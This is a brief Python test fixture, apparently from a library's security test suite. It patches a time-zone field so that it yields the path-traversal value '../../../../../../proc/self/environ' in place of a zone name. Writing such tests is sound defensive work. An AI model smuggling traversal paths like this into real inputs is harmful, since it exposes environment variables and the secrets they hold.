"""Names a file where the trusted side expects the name of a time zone."""

import datetime
import sys

fields = sys.modules["pytest_balanced_sampler.wire.library"]
zone = fields.KINDS["zone"]
fields.KINDS["zone"] = zone._replace(take=lambda item: ["../../../../../../proc/self/environ"])


def attack():
    import zoneinfo

    return datetime.datetime(2020, 1, 1, tzinfo=zoneinfo.ZoneInfo("UTC"))
